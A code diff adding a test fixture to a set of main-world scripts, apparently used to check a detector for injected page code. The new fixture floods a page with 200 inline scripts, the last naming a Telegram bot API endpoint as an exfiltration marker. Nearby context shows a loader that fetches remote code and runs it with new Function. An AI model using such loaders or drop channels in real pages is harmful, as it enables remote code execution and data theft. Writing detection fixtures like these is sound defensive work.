@@ -290,6 +290,18 @@ export const MAIN_WORLD_SCRIPTS = {
   }, 2000);
 })();`,
 
+  /**
+   * The same flood, the last script naming a helper's drop (a code token of SAQ-INJ-006) in a string it never
+   * uses: past the hash budget its text is folded with the others' (src/content/main/text-folds.ts).
+   */
+  'inline-flood-token': `(() => {
+  for (let i = 0; i < 200; i++) {
+    const script = document.createElement('script');
+    script.textContent = 'window.__inlineFlood = ' + i + (i === 199 ? '; window.__drop = "api.telegram.org/bot";' : ';');
+    document.head.appendChild(script);
+  }
+})();`,
+
   /** The classic loader: downloads the real code and runs it with new Function. */
   'remote-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function(code)());`,
   payload: `/* helper payload */ ${ADD_TO_CART}.click(); window.__helperPayload = true;`,
